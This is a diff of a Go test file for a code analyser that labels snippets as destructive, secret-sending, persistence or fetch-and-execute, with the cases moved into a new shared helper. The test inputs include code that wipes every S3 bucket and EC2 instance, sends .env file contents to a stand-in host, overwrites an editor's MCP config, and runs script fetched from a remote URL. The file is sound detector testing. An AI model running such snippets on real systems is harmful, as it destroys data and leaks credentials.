@@ -513,14 +513,27 @@ func TestPromiseWrappedDownload(t *testing.T) {
 	}
 }
 
+// kindCase is a source, its language, and the kinds its analysis finds.
+type kindCase struct {
+	src  string
+	lang Lang
+	want string
+}
+
+// checkKinds asserts the kinds each case's analysis finds.
+func checkKinds(t *testing.T, cases []kindCase) {
+	t.Helper()
+	for _, c := range cases {
+		if got := kinds(c.src, c.lang); got != c.want {
+			t.Errorf("%q: %q, want %q", c.src, got, c.want)
+		}
+	}
+}
+
 // A deletion of each resource a listing of the whole cloud account gives
 // is destructive; one the loop picks by a test, or one named, is not.
 func TestCloudAccountWiped(t *testing.T) {
-	for _, c := range []struct {
-		src  string
-		lang Lang
-		want string
-	}{
+	checkKinds(t, []kindCase{
 		{"import boto3\ns3 = boto3.resource('s3')\nfor b in s3.buckets.all():\n    b.objects.all().delete()\n    b.delete()\n", Python, "destructive"},
 		{"import boto3\nc = boto3.client('ec2')\nfor r in c.describe_instances()['Reservations']:\n    c.terminate_instances(InstanceIds=[i['InstanceId'] for i in r['Instances']])\n", Python, "destructive"},
 		{"const res = await s3.send(new ListBucketsCommand({}));\nfor (const b of res.Buckets) {\n  await s3.send(new DeleteBucketCommand({ Bucket: b.Name }));\n}\n", JS, "destructive"},
@@ -529,44 +542,31 @@ func TestCloudAccountWiped(t *testing.T) {
 		{"import boto3, sys\nc = boto3.client('s3')\nprint([b['Name'] for b in c.list_buckets()['Buckets']])\nc.delete_bucket(Bucket=sys.argv[1])\n", Python, ""},
 		{"import boto3\ns3 = boto3.resource('s3')\ns3.Bucket('my-app-artifacts').objects.all().delete()\n", Python, ""},
 		{"import boto3\nc = boto3.client('ec2')\nfor r in c.describe_instances()['Reservations']:\n    c.delete_tags(Resources=[i['InstanceId'] for i in r['Instances']], Tags=[{'Key': 'old'}])\n", Python, ""},
-	} {
-		if got := kinds(c.src, c.lang); got != c.want {
-			t.Errorf("%q: %q, want %q", c.src, got, c.want)
-		}
-	}
+	})
 }
 
 // A comprehension's names hold what its iterable gives, before the element
 // that uses them is read; a glob of dotenv files names credential stores.
 func TestComprehensionOfEnvFiles(t *testing.T) {
-	for src, want := range map[string]string{
-		"import pathlib, urllib.request, json\nfound = {str(p): p.read_text() for p in pathlib.Path('.').rglob('.env*')}\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n": "secret-send",
-		"import pathlib, urllib.request, json\nfound = [p.read_text() for p in pathlib.Path('.').rglob('*.md')]\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n":          "",
-	} {
-		if got := kinds(src, Python); got != want {
-			t.Errorf("%q: %q, want %q", src, got, want)
-		}
-	}
+	checkKinds(t, []kindCase{
+		{"import pathlib, urllib.request, json\nfound = {str(p): p.read_text() for p in pathlib.Path('.').rglob('.env*')}\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n", Python, "secret-send"},
+		{"import pathlib, urllib.request, json\nfound = [p.read_text() for p in pathlib.Path('.').rglob('*.md')]\nurllib.request.urlopen('https://x.example/c', data=json.dumps(found).encode())\n", Python, ""},
+	})
 }
 
 // A loop over a list of paths writes each of them.
 func TestLoopOverPathsWritten(t *testing.T) {
-	src := "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';\nconst targets = [path.join(os.homedir(), 'notes.txt'), path.join(os.homedir(), '.cursor/mcp.json')];\nfor (const t of targets) {\n fs.writeFileSync(t, 'x');\n}\n"
-	if got := kinds(src, JS); got != "persistence" {
-		t.Errorf("%q: %q, want persistence", src, got)
-	}
+	checkKinds(t, []kindCase{
+		{"import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';\nconst targets = [path.join(os.homedir(), 'notes.txt'), path.join(os.homedir(), '.cursor/mcp.json')];\nfor (const t of targets) {\n fs.writeFileSync(t, 'x');\n}\n", JS, "persistence"},
+	})
 }
 
 // A page's own file fetched by a relative URL is no download; a function
 // literal outside a download's chain is no call of Function.
 func TestRelativeFetchAndFunctionLiterals(t *testing.T) {
-	for src, want := range map[string]string{
-		"fetch('metrics.json').then(function (r) { return r.json(); }).then(function (d) { tip.textContent = d.rate; });\n":    "",
-		"el.addEventListener('click', function (e) { show(e); });\n":                                                           "",
-		"fetch('https://x.example/p.js').then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });\n": "fetch-exec",
-	} {
-		if got := kinds(src, JS); got != want {
-			t.Errorf("%q: %q, want %q", src, got, want)
-		}
-	}
+	checkKinds(t, []kindCase{
+		{"fetch('metrics.json').then(function (r) { return r.json(); }).then(function (d) { tip.textContent = d.rate; });\n", JS, ""},
+		{"el.addEventListener('click', function (e) { show(e); });\n", JS, ""},
+		{"fetch('https://x.example/p.js').then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });\n", JS, "fetch-exec"},
+	})
 }
